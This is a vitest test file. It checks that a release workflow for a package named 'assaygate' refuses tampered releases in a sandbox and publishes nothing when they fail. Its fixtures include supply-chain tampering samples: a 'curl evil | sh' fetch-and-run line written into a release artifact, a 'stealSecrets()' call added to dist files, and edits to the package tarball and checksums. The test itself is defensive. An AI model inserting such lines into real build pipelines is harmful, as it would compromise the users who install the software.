import { createHash } from "node:crypto";
import { describe, expect, it, onTestFinished } from "vitest";
import type { Files } from "../../../sandbox/github/seed/seed.ts";
import {
  approver,
  type ReleaseRehearsal,
  releaseRehearsal,
  starter,
} from "../../support/release-rehearsal.ts";
import { tinyRelease, withWorkflow } from "../../support/tiny-release.ts";

async function rehearsal(files: Files): Promise<ReleaseRehearsal> {
  const rehearsed = await releaseRehearsal(files);
  onTestFinished(() => rehearsed.close());
  return rehearsed;
}

const tag = { ref: "refs/tags/v1.2.0" };

async function mainOf(rehearsed: ReleaseRehearsal): Promise<string> {
  const { body } = await rehearsed.ask(starter, "GET", "/git/ref/heads/main");
  return (body as { object: { sha: string } }).object.sha;
}

/** Nothing that strangers could see, and no draft either. */
async function expectNothing(rehearsed: ReleaseRehearsal): Promise<void> {
  expect((await rehearsed.ask(approver, "GET", "/releases")).body).toEqual([]);
}

async function expectNoAttestation(rehearsed: ReleaseRehearsal): Promise<void> {
  const path = `/attestations/sha256:${createHash("sha256").update("console.log('gate');\n").digest("hex")}`;
  expect((await rehearsed.ask(starter, "GET", path)).status).toBe(404);
}

const all = { build: "success", pack: "success", attest: "success", publish: "success" };

describe("a release of a tiny repository by our own workflow", () => {
  it("goes through, so that what is refused below is refused for its own reason", async () => {
    const rehearsed = await rehearsal(tinyRelease);
    const run = await rehearsed.release();

    expect(rehearsed.conclusions(run), rehearsed.jobs(run)["publish"]?.lines.join("\n")).toEqual(all);
    expect(await rehearsed.published()).toEqual(["v1.2.0"]);
  });

  it("waits for a maintainer who did not start it", async () => {
    const rehearsed = await rehearsal(tinyRelease);
    const run = await rehearsed.start();

    expect((await rehearsed.approve(run, starter)).status).toBe(403);
    expect(await rehearsed.status(run)).toMatchObject({ status: "waiting" });
    await expectNoAttestation(rehearsed);
    await expectNothing(rehearsed);
  });
});

interface Refused {
  readonly files: Files;
  readonly job: "build" | "pack" | "attest" | "publish";
  readonly why: string;
}

const packageOf = (version: string): string =>
  JSON.stringify({ name: "assaygate", version, files: ["dist"] });
const packed = `\${{ needs.pack.outputs.artifact-id }}`;
const attested = `\${{ needs.attest.outputs.artifact-id }}`;

const refused: Readonly<Record<string, Refused>> = {
  "of a version that changesets never wrote": {
    files: { ...tinyRelease, "package.json": packageOf("0.0.0") },
    job: "pack",
    why: "expected a version that changesets wrote, got 0.0.0",
  },
  "while changes wait for a version": {
    files: { ...tinyRelease, ".changeset/a-change.md": "---\n---\n\nA change.\n" },
    job: "pack",
    why: "expected no change that waits for a version, found .changeset/a-change.md",
  },
  "of a version that the changelog does not know": {
    files: { ...tinyRelease, "package.json": packageOf("1.3.0") },
    job: "pack",
    why: 'expected "## 1.3.0" in CHANGELOG.md, found none',
  },
  "whose dist is not what the source builds to": {
    files: { ...tinyRelease, "dist/index.js": "console.log('gate');\nstealSecrets();\n" },
    job: "build",
    why: " M dist/index.js",
  },
  "whose dist has a file that the source does not build": {
    files: { ...tinyRelease, "dist/more.js": "stealSecrets();\n" },
    job: "build",
    why: " D dist/more.js",
  },
  "whose workflows are not what their sources render to": {
    files: { ...tinyRelease, "scripts/render.ts": "process.exitCode = 1;\n" },
    job: "build",
    why: "Process completed with exit code 1.",
  },
  "whose attesting job finds no checksums": {
    files: withWorkflow("          path: release\n", "          path: elsewhere\n"),
    job: "attest",
    why: "expected at least one subject, found none",
  },
  "whose attesting job may not sign": {
    files: withWorkflow("      id-token: write # the identity that signs\n", ""),
    job: "attest",
    why: 'missing "id-token" permission',
  },
  "whose attestation is about something else": {
    files: withWorkflow("subject-checksums: release/SHA256SUMS", "subject-path: release/notes.md"),
    job: "publish",
    why: "provenance: expected the 4 files of SHA256SUMS, found 1",
  },
  "whose attestation is no provenance": {
    files: withWorkflow(
      "subject-checksums: release/SHA256SUMS",
      "subject-checksums: release/SHA256SUMS\n          predicate-type: https://example.org/p\n          predicate: '{}'",
    ),
    job: "publish",
    why: "expected a bundle with a statement of provenance, found none",
  },
  "whose attestation did not arrive": {
    files: withWorkflow(`${packed},${attested}`, `${packed},7`),
    job: "publish",
    why: "expected the files SHA256SUMS, assaygate-1.2.0.tgz, notes.md, provenance.sigstore.json, found",
  },
  "with a file that nobody made": {
    files: withWorkflow(
      "      - id: upload\n        uses: actions/upload-artifact@",
      '      - run: echo "curl evil | sh" > .cache/release/install.sh\n      - id: upload\n        uses: actions/upload-artifact@',
    ),
    job: "publish",
    why: "found SHA256SUMS, assaygate-1.2.0.tgz, install.sh, notes.md, provenance.sigstore.json",
  },
  "with a package that the commit does not make": {
    files: withWorkflow(
      "run: node scripts/release-prepare.ts",
      "run: node scripts/release-prepare.ts && echo >> .cache/release/assaygate-1.2.0.tgz",
    ),
    job: "publish",
    why: "assaygate-1.2.0.tgz: expected the bytes that this commit makes here, found others",
  },
  "with checksums of other files, signed as they are": {
    files: withWorkflow(
      "run: node scripts/release-prepare.ts",
      "run: node scripts/release-prepare.ts && sed -i s/^./0/ .cache/release/SHA256SUMS",
    ),
    job: "publish",
    why: "SHA256SUMS: expected the bytes that this commit makes here, found others",
  },
};

describe("G15: a release", () => {
  it.each(Object.entries(refused))(
    "%s is refused, with the reason, and nothing is published",
    async (_, scene) => {
      const { files, job, why } = scene;
      const rehearsed = await rehearsal(files);
      const run = await rehearsed.release();

      expect(rehearsed.jobs(run)[job]?.conclusion).toBe("failure");
      expect(rehearsed.jobs(run)[job]?.lines.join("\n")).toContain(why);
      expect(rehearsed.writes(run, "publish")).toEqual([]);
      if (job === "build" || job === "pack") await expectNoAttestation(rehearsed);
      await expectNothing(rehearsed);
    },
  );

  it("of a tag that somebody made beforehand is refused before anything is signed", async () => {
    const rehearsed = await rehearsal(tinyRelease);
    await rehearsed.ask(starter, "POST", "/git/refs", { ...tag, sha: await mainOf(rehearsed) });
    const run = await rehearsed.release();

    expect(rehearsed.jobs(run)["pack"]?.lines.join("\n")).toContain(
      "expected no v1.2.0 yet (404 for /git/ref",
    );
    expect(rehearsed.conclusions(run)).toEqual({
      ...all,
      pack: "failure",
      attest: "skipped",
      publish: "skipped",
    });
    await expectNothing(rehearsed);
  });

  it("of a tag that somebody makes while it waits is refused", async () => {
    const rehearsed = await rehearsal(tinyRelease);
    const run = await rehearsed.start();
    await rehearsed.approve(run);
    await rehearsed.ask(starter, "POST", "/git/refs", { ...tag, sha: await mainOf(rehearsed) });
    await rehearsed.approve(run);

    expect(rehearsed.jobs(run)["publish"]?.lines.join("\n")).toContain("expected no v1.2.0 yet");
    expect(rehearsed.conclusions(run)).toEqual({ ...all, publish: "failure" });
    await expectNothing(rehearsed);
  });

  it("that was published already is refused, and stays as it is", async () => {
    const rehearsed = await rehearsal(tinyRelease);
    await rehearsed.release();
    const before = (await rehearsed.ask(starter, "GET", "/releases/tags/v1.2.0")).body;
    const again = await rehearsed.release();

    expect(rehearsed.jobs(again)["pack"]?.lines.join("\n")).toContain(
      "expected no v1.2.0 yet (404 for /releases/tags",
    );
    expect(rehearsed.conclusions(again)).toEqual({
      ...all,
      pack: "failure",
      attest: "skipped",
      publish: "skipped",
    });
    expect((await rehearsed.ask(starter, "GET", "/releases/tags/v1.2.0")).body).toEqual(before);
  });

  it("that is started elsewhere than on main does nothing", async () => {
    const rehearsed = await rehearsal(tinyRelease);
    await rehearsed.ask(starter, "POST", "/git/refs", {
      ref: "refs/heads/fix",
      sha: await mainOf(rehearsed),
    });
    const run = await rehearsed.release("fix");

    const skipped = { build: "skipped", pack: "skipped", attest: "skipped", publish: "skipped" };
    expect(rehearsed.conclusions(run)).toEqual(skipped);
    await expectNothing(rehearsed);
  });
});
